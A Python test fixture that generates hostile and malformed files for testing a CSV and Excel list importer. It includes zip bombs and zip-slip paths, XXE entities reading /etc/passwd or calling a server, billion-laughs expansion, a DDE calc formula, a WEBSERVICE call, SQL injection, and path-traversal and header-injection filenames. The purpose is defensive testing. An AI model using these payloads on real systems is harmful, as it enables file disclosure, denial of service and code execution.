"""A corpus of hostile and odd files, made anew each time: nothing of it lies in the repository."""

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass

import openpyxl

from tests.daten.meldelisten import KOPF_2019, liste, zeile

NAME = "liste.csv"
GUT = liste(zeile())
BLATT, MAPPE = "xl/worksheets/sheet1.xml", "xl/workbook.xml"


@dataclass(frozen=True)
class Datei:
    """A file and what has to come of it: `gelesen` rows that are taken, or None where it is refused whole."""

    inhalt: bytes
    gelesen: int | None = None
    name: str = NAME


def mappe(*zeilen: dict[str, str], formel: str = "") -> bytes:
    """A workbook as Excel would store the list."""
    neue = openpyxl.Workbook()
    blatt = neue.active
    assert blatt is not None
    blatt.append(KOPF_2019)
    for eine in zeilen:
        blatt.append([eine.get(spalte, "") or None for spalte in KOPF_2019])
    if formel:
        boese = zeile(merkmal="5707626000009", Vornamen=formel)
        blatt.append([boese.get(spalte) for spalte in KOPF_2019])
    puffer = io.BytesIO()
    neue.save(puffer)
    return puffer.getvalue()


GUTE_MAPPE = mappe(zeile())


def mit(teile: dict[str, bytes | Callable[[bytes], bytes]], *, art: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The good workbook with parts changed or added."""
    puffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GUTE_MAPPE)) as gute, zipfile.ZipFile(puffer, "w", art) as neue:
        bisher = {name: gute.read(name) for name in gute.namelist()}
        for name, inhalt in (bisher | teile).items():
            neue.writestr(name, inhalt(bisher[name]) if callable(inhalt) else inhalt)
    return puffer.getvalue()


def vor(marke: str, einschub: str) -> Callable[[bytes], bytes]:
    """Put something before a mark."""
    return lambda alt: alt.replace(marke.encode(), (einschub + marke).encode(), 1)


def statt(alt: str, neu: str) -> Callable[[bytes], bytes]:
    return lambda inhalt: inhalt.replace(alt.encode(), neu.encode())


def gelogen(inhalt: bytes) -> bytes:
    """The same zip with a directory that says that nothing in it has any size."""
    aus = bytearray(inhalt)
    stelle = aus.find(b"PK\x01\x02")
    while stelle >= 0:
        aus[stelle + 24 : stelle + 28] = struct.pack("<I", 1)
        stelle = aus.find(b"PK\x01\x02", stelle + 4)
    return bytes(aus)


def uebereinander(inhalt: bytes) -> bytes:
    """The same zip with a directory in which all entries lead to the first one."""
    aus = bytearray(inhalt)
    stelle = aus.find(b"PK\x01\x02")
    while stelle >= 0:
        aus[stelle + 42 : stelle + 46] = struct.pack("<I", 0)
        stelle = aus.find(b"PK\x01\x02", stelle + 4)
    return bytes(aus)


def doctype(innen: str, wurzel: str = "&a;") -> Callable[[bytes], bytes]:
    """A sheet that begins with a document type of its own."""
    kopf = f'<?xml version="1.0"?><!DOCTYPE worksheet [{innen}]>'
    return lambda alt: kopf.encode() + vor("</sheetData>", wurzel)(alt)


def lachen() -> str:
    return (
        '<!ENTITY l0 "ha">'
        + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        + '<!ENTITY a "&l9;">'
    )


def blatt_mit_zellen(zellen: Iterable[str]) -> Callable[[bytes], bytes]:
    return vor("</sheetData>", f'<row r="9">{"".join(zellen)}</row>')


def text(**felder: str) -> bytes:
    return liste(zeile(**felder), zeile(merkmal="5707626000002"))


def dateien(adresse: str) -> dict[str, Datei]:
    """The corpus by name; `adresse` is that of a server which must not be asked."""
    zufall = random.Random(3)
    rauschen = zufall.randbytes(4096)
    ent = f"SYSTEM '{adresse}"
    null = b"\0" * (60 * 1024 * 1024)
    zelle = '<c t="inlineStr"><is><t>x</t></is></c>'
    weit = zelle.replace("<c ", '<c r="XFD3" ')
    csv = liste(zeile()).removeprefix(b"\xef\xbb\xbf")
    return {
        "leer": Datei(b""),
        "ein Byte": Datei(b"x"),
        "nur Leerzeichen": Datei(b" \r\n\t" * 200),
        "elf Mebibyte": Datei(GUT + b"\r\n" * (11 * 512 * 1024)),
        "zehn Mebibyte in einer Zeile": Datei(b"a;" * (5 * 1024 * 1024 - 9)),
        "zehn Mebibyte in einer Zelle": Datei(GUT + b"a" * (9 * 1024 * 1024)),
        "nur Trennzeichen": Datei(b";" * 300_000),
        "nur Zeilenenden": Datei(GUT + b"\n" * 5_000_000),
        "50.001 Zeilen": Datei(GUT + b";".join([b"x"] + [b""] * 24) + (b"\r\nx" + b";" * 24) * 50_001),
        "Rauschen": Datei(rauschen),
        "Rauschen unter gutem Kopf": Datei(GUT + rauschen),
        "PDF mit Endung csv": Datei(b"%PDF-1.7\n" + GUT),
        "PDF und ZIP zugleich": Datei(b"%PDF-1.7\n" + GUTE_MAPPE, name="liste.xlsx"),
        "GIF und HTML zugleich": Datei(b"GIF89a/*<script>alert(1)</script>*/=1;"),
        "HTML als Tabelle": Datei(b"<table><tr><td>" + GUT + b"</table>", name="liste.xls"),
        "altes Excel": Datei(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, name="liste.xls"),
        "ausführbar": Datei(b"\x7fELF\x02\x01\x01" + b"\0" * 600),
        "gzip": Datei(b"\x1f\x8b\x08\x00" + rauschen),
        "Endung falsch, Inhalt gut": Datei(GUT, 1, "liste.exe"),
        "Endung csv, Inhalt Mappe": Datei(GUTE_MAPPE, 1),
        "Bombe, flach": Datei(mit({"xl/null.xml": null}), name="b.xlsx"),
        "Bombe im Blatt": Datei(mit({BLATT: vor("</sheetData>", " " * 51 * 1024 * 1024)}), name="b.xlsx"),
        "Bombe, verschachtelt": Datei(mit({"xl/innen.zip": mit({"xl/null.xml": null})}), name="b.xlsx"),
        "Bombe, Verzeichnis lügt": Datei(gelogen(mit({"xl/null.xml": null})), name="b.xlsx"),
        "Bombe, überlappend": Datei(uebereinander(mit({"xl/null.xml": b"\0" * 4_000_000})), name="b.xlsx"),
        "400 Einträge": Datei(mit({f"xl/{n}.xml": b"<a/>" for n in range(400)}), name="b.xlsx"),
        "Pfad mit ..": Datei(mit({"../../etc/cron.d/x": b"* * * * * root true"}), name="b.xlsx"),
        "absoluter Pfad": Datei(mit({"/etc/cron.d/x": b"* * * * * root true"}), name="b.xlsx"),
        "ZIP ohne Mappe": Datei(b"PK\x03\x04" + rauschen, name="b.xlsx"),
        "abgeschnittene Mappe": Datei(GUTE_MAPPE[:-400], name="b.xlsx"),
        "Mappe ohne Blatt": Datei(mit({BLATT: b""}), name="b.xlsx"),
        "Mappe mit kaputtem XML": Datei(mit({BLATT: b"<worksheet><sheetData><row>"}), name="b.xlsx"),
        "Makro": Datei(mit({"xl/vbaProject.bin": rauschen}), name="b.xlsm"),
        "Verknüpfung": Datei(mit({"xl/externalLinks/externalLink1.xml": b"<a/>"}), name="b.xlsx"),
        "eingebettetes Objekt": Datei(mit({"xl/embeddings/oleObject1.bin": rauschen}), name="b.xlsx"),
        "ActiveX": Datei(mit({"xl/activeX/activeX1.xml": b"<a/>"}), name="b.xlsx"),
        "DDE als Formel": Datei(mappe(zeile(), formel="=cmd|'/c calc'!A0"), 1, "b.xlsx"),
        "Formel mit Webdienst": Datei(mappe(zeile(), formel=f'=WEBSERVICE("{adresse}/f")'), 1, "b.xlsx"),
        "Formel mit gemerktem Wert": Datei(
            mit({BLATT: blatt_mit_zellen(["<c><f>1+1</f><v>2</v></c>"])}), 1, "b.xlsx"
        ),
        "verstecktes Blatt": Datei(
            mit({MAPPE: statt('state="visible"', 'state="veryHidden"')}), 1, "b.xlsx"
        ),
        "16.384 Spalten": Datei(mit({BLATT: blatt_mit_zellen([zelle] * 16_384)}), name="b.xlsx"),
        "Spalte weit draußen": Datei(
            mit({BLATT: vor("</sheetData>", f'<row r="3">{weit}</row>')}),
            name="b.xlsx",
        ),
        "Zeile weit unten": Datei(
            mit({BLATT: vor("</sheetData>", f'<row r="1048577">{zelle}</row>')}), name="b.xlsx"
        ),
        "Maße gelogen": Datei(
            mit({BLATT: statt('<dimension ref="A1:Y2"', '<dimension ref="A1:XFD1048576"')}), 1, "b.xlsx"
        ),
        "XML 5.000 tief": Datei(
            mit({BLATT: vor("</sheetData>", "<a>" * 5_000 + "</a>" * 5_000)}), 1, "b.xlsx"
        ),
        "Milliarden Lacher": Datei(mit({BLATT: doctype(lachen())}), name="b.xlsx"),
        "quadratisch": Datei(
            mit({BLATT: doctype(f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 9_999)}), name="b.xlsx"
        ),
        "Entität: Datei": Datei(
            mit({BLATT: doctype("<!ENTITY a SYSTEM 'file:///etc/passwd'>")}), name="b.xlsx"
        ),
        "Entität: Netz": Datei(mit({BLATT: doctype(f"<!ENTITY a {ent}/e'>")}), name="b.xlsx"),
        "Entität: Parameter": Datei(
            mit({BLATT: doctype(f"<!ENTITY % p {ent}/p'>%p;", "")}), name="b.xlsx"
        ),
        "Schema von außen": Datei(
            mit({BLATT: statt("<worksheet ", f'<worksheet xsi:schemaLocation="a {adresse}/s.xsd" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" ')}), 1, "b.xlsx",
        ),
        "XInclude": Datei(
            mit({BLATT: vor("</sheetData>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="{adresse}/i"/>')}), 1, "b.xlsx",
        ),
        "Dokumenttyp in UTF-16": Datei(
            mit({BLATT: lambda alt: doctype(lachen())(alt).decode().encode("utf-16")}), name="b.xlsx"
        ),
        "UTF-7": Datei("Straße;Änderung\r\n".encode("utf-7") + csv.decode().encode("utf-7")),
        "UTF-16": Datei(csv.decode().encode("utf-16")),
        "UTF-16 ohne Marke": Datei(csv.decode().encode("utf-16-le")),
        "UTF-32": Datei(csv.decode().encode("utf-32")),
        "zwei Marken": Datei(b"\xef\xbb\xbf" + GUT),
        "Marke mitten darin": Datei(GUT + "\ufeffx".encode(), 1),
        "kaputtes UTF-8": Datei(csv.replace(b"Rosina", b"Ros\xc3\x28na\x81")),
        "NUL im Namen": Datei(text(Vornamen="Mi\0ka"), 1),
        "Schreibrichtung": Datei(text(Vornamen="Mi\u202eka"), 1),
        "Anführungszeichen offen": Datei(GUT + b'"x;' * 30),
        "Anführungszeichen mitten darin": Datei(GUT + b'a"b;"c"d;' + b"\r\n"),
        "Trennzeichen gemischt": Datei(csv.replace(b";", b",", 5)),
        "Tabulatoren": Datei(csv.replace(b";", b"\t")),
        "31. Februar": Datei(text(Geburtsdatum="31.02.2026"), 1),
        "Tag null": Datei(text(Geburtsdatum="00.00.0000"), 1),
        "Jahr 9999": Datei(text(Geburtsdatum="01.08.9999"), 1),
        "Jahr mit zwei Ziffern": Datei(text(Geburtsdatum="01.08.26"), 1),
        "Name mit einem Buchstaben": Datei(text(Vornamen="Ö"), 2),
        "Name mit Apostroph": Datei(text(Familienname="O’Brien-d'Ávila"), 2),
        "Name mit 200 Zeichen": Datei(text(Vornamen="A" * 200), 1),
        "Name mit Bildchen": Datei(text(Vornamen="Mika 🦊"), 2),
        "Name, der ein Befehl ist": Datei(text(Vornamen="'; DROP TABLE stammdaten_familie; --"), 2),
        "Zelle wie eine Formel": Datei(text(Vornamen="=1+1"), 1),
        "Dateiname mit Pfad": Datei(GUT, 1, "../../../etc/passwd"),
        "Dateiname eines Geräts": Datei(GUT, 1, "CON.csv"),
        "Dateiname mit 400 Zeichen": Datei(GUT, name="a" * 400 + ".csv"),
        "Dateiname mit Zeilenumbruch": Datei(GUT, 1, "a\r\nSet-Cookie: x=1.csv"),
        "Dateiname mit %2e%2e": Datei(GUT, 1, "%2e%2e%2fpasswd.csv"),
    }  # fmt: skip
